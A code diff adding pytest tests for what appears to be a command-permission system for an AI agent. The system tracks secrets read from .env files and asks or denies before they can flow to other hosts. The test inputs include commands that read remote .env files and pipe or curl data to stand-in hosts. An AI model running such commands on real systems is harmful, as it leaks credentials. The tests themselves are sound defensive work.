@@ -259,6 +259,38 @@ def test_a_server_of_the_machine_that_was_logged_in_to_is_that_machine(repo: Pat
     assert session.bash("curl -s http://127.0.0.1:3030/a?b=1")[0] == "ask"
 
 
+THERE = "ssh host.example 'base64 /srv/app/.env'"
+
+
+@pytest.mark.parametrize(
+    ("command", "asked"),
+    [
+        ("ssh host.example uptime", False),
+        ("ssh other.example uptime", True),
+        ("ssh -p 2222 host.example uptime", True),
+        ("ssh host.example 'curl -s http://other.example/a?b=1'", True),
+        ("ssh host.example 'python3 send.py'", True),
+        ("ssh host.example uptime | ssh other.example 'cat > x'", True),
+        ('ssh host.example "echo $(cat .env.production)"', True),
+        ("curl -s https://host.example/a?b=1", True),
+    ],
+)
+def test_a_secret_of_a_machine_is_nothing_new_to_it(command: str, asked: bool, repo: Path) -> None:
+    organisation(ALLOWING.replace("git, ", "git, ssh, "))
+    session = Session(repo)
+    session.bash(UNTRUSTED)
+    assert session.bash(THERE)[0] == "ask"  # for the secret itself, and a person says yes
+    assert (session.bash(command)[0] != "allow") == asked
+
+
+def test_a_secret_of_this_machine_is_new_to_every_other(repo: Path) -> None:
+    organisation(ALLOWING.replace("git, ", "git, ssh, "))
+    session = Session(repo)
+    session.bash(UNTRUSTED)
+    session.bash(SECRET)
+    assert session.bash("ssh host.example uptime")[0] == "ask"
+
+
 def test_where_nobody_may_be_asked_it_is_denied(repo: Path) -> None:
     session = Session(repo)
     session.bash(UNTRUSTED)
